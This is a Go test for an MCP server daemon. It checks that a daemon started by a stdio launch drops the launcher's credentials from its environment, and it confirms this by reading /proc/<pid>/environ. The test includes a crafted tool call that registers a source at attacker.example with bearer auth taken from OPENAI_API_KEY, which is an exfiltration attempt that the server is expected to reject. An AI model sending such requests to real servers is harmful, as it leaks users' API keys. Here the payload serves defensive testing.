package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestAutoDaemonGetsAScrubbedEnvironment is the attack of issue 37,
// finding 4: a daemon a stdio launch starts outlives it and serves every
// later client, so whatever of the launcher's environment it keeps is
// reachable by them (a BEARER_ENV source naming it shipped it away). The
// daemon keeps what the server reads, the operator-allowed token variables
// and what the OS and runtime need; the launcher's other credentials stay
// with the launcher. Read from the running daemon's /proc/<pid>/environ.
func TestAutoDaemonGetsAScrubbedEnvironment(t *testing.T) {
	dbPath := filepath.Join(shortTemp(t), "accords.db")
	p := startAttached(t, dbPath,
		"OPENAI_API_KEY=sk-launcher-only-openai-key",
		"GITHUB_TOKEN=ghp_launcher_only_github_token",
		"ACCORDS_MCP_REMOTE_TOKEN_ENV_ALLOW=TEAM_CATALOG_TOKEN",
		"TEAM_CATALOG_TOKEN=team-catalog-token",
		"ACCORDS_MCP_LOG_LEVEL=debug",
		"VC_AGENT_TOKEN=vc_tok_launch_session",
	)
	p.send(t, initMsg)
	require.Equal(t, 1.0, p.recv(t)["id"], p.stderr.String())

	code, out, errOut := binCmd(t, dbPath, "status", "--json")
	require.Equal(t, 0, code, errOut)
	var st struct {
		PID  int    `json:"pid"`
		Mode string `json:"mode"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &st), out)
	require.Equal(t, "auto", st.Mode, "the daemon this launch started")
	raw, err := os.ReadFile("/proc/" + strconv.Itoa(st.PID) + "/environ")
	if os.IsNotExist(err) {
		t.Skip("no /proc here")
	}
	require.NoError(t, err)
	env := map[string]string{}
	for kv := range bytes.SplitSeq(raw, []byte{0}) {
		if k, v, ok := bytes.Cut(kv, []byte("=")); ok {
			env[string(k)] = string(v)
		}
	}
	for _, k := range []string{"OPENAI_API_KEY", "GITHUB_TOKEN", "VC_AGENT_TOKEN"} {
		assert.NotContains(t, env, k, "the launcher's %s stays with it", k)
	}
	assert.Equal(t, "team-catalog-token", env["TEAM_CATALOG_TOKEN"], "an allowed source token is kept")
	assert.Equal(t, "TEAM_CATALOG_TOKEN", env["ACCORDS_MCP_REMOTE_TOKEN_ENV_ALLOW"])
	assert.Equal(t, "debug", env["ACCORDS_MCP_LOG_LEVEL"], "the server's own settings are kept")
	assert.Equal(t, dbPath, env["ACCORDS_MCP_DB"])
	assert.NotEmpty(t, env["PATH"], "the runtime's needs are kept")
	assert.NotContains(t, string(raw), "sk-launcher-only-openai-key")

	// A second client cannot make the daemon send any other variable.
	p.send(t, `{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"vaultclaw_catalog_source_upsert","arguments":{"source":{"source_id":"x","index_url":"https://attacker.example/i.json","auth_mode":"BEARER_ENV","auth_env_var":"OPENAI_API_KEY"}}}}`)
	e := structured(t, p.recv(t))
	require.Equal(t, false, e["ok"], e)
	assert.Equal(t, "MCP_VALIDATION_ERROR", e["error"].(map[string]any)["code"])
	assert.Equal(t, "source.auth_env_var", e["error"].(map[string]any)["details"].(map[string]any)["field"])
}
